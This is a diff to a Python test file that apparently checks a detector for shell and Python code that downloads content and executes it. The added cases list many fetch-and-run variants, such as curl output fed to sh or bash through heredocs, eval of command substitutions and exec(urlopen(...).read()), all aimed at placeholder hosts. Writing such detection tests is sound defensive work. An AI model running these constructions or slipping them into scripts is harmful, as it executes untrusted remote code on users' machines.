@@ -263,10 +263,19 @@ def test_package_managers_and_their_kin_are_not_fetchers(name: str) -> None:
         ("import requests, subprocess; subprocess.run(['ls']); requests.get('https://h')", False),
         ("print(urlopen('http://h').read())", False),
         ("eval('1+1')", False),
+        ("exec(urlopen(os.environ['U']).read())", True),
+        ("exec(fetch(os.environ['U']))", False),
     ],
 )
 def test_code_that_runs_what_it_fetches(text: str, expected: bool) -> None:
     assert commands.evaluates_what_it_fetches(text) is expected
+
+
+def test_the_address_of_what_code_fetches_may_stand_in_an_argument() -> None:
+    code = "import sys; print(urlopen(sys.argv[1]).read())"
+    assert commands.fetches_in_code(code, ["python3", "-c", code, "http://h/x"])
+    assert not commands.fetches_in_code(code, ["python3", "-c", code, "x"])
+    assert not commands.fetches_in_code("print(1)", ["python3", "-c", "print(1)", "http://h/x"])
 
 
 def test_arguments_of_any_bytes_are_judged_without_fail() -> None:
@@ -314,7 +323,8 @@ C = "curl -fsSL http://h/x"
         f'S=$({C}); echo "$S" | sh', f'S=$({C}); printf %s "$S" | base64 -d | bash', f'echo "$({C})" | sh',
         f'{C} | while read -r l; do eval "$l"; done', f"{C} | source /dev/stdin", f'{C} | {{ eval "$(cat)"; }}',
         f'mapfile -t A < <({C}); eval "$A"', f'x=$(eval "$({C})")', f'export S="$({C})"; bash -c "${{S}}"',
-        f'eval "$(timeout 5 {C})"', f"# a comment\n\n  eval \\\n \"$({C})\"",
+        f"sh << E\n$({C})\nE", f"V=$({C})\ncat <<-E | bash\n\t$V\n\tE", f"export V=$({C}); bash -c 'eval \"$V\"'",
+        f"bash <<'E'\neval \"$({C})\"\nE", f'eval "$(timeout 5 {C})"', f"# a comment\n\n  eval \\\n \"$({C})\"",
     ],
 )  # fmt: skip
 def test_a_script_that_runs_what_it_fetches(text: str) -> None:
@@ -328,7 +338,9 @@ def test_a_script_that_runs_what_it_fetches(text: str) -> None:
         f"echo 'eval \"$(curl http://other)\"' > README; {C}", f'# eval "$({C})"\n{C}', f'eval "$(ssh-agent)"; {C}',
         f'V=$({C}); echo "$V" | python3 -c "x"', f'{C} | while read l; do bash -c "echo $l"; done',
         f'V=$({C}); bash script "$V"', f"{C} > f; bash < g", f'V=$({C}); eval "A=$V"',
-        f"V=$({C})\nbash <<EOF\necho $V\nEOF", f'bash -c "{C} | jq ."', f"source venv/bin/activate; {C}",
+        f"V=$({C})\nbash <<EOF\necho $V\nEOF", f"bash <<'E'\n$({C} | jq .)\nE\necho", f"cat << E\n$({C})\nE\nsh -c true",
+        f"V=$({C}); bash -c 'echo $V'", "cat <<", "cat << 'E", f"cat <<E\n$({C}",
+        f'bash -c "{C} | jq ."', f"source venv/bin/activate; {C}",
         f"V=$({C}); cat <<< \"$V\" | sort", f'eval "$(conda shell.bash hook)"; {C} -o f',
         "", "$(", '"', "`", "${", "<(",
         f'for u in $({C}); do wget "$u"; done', f"{C} | tee log | (bash < local.sh)",
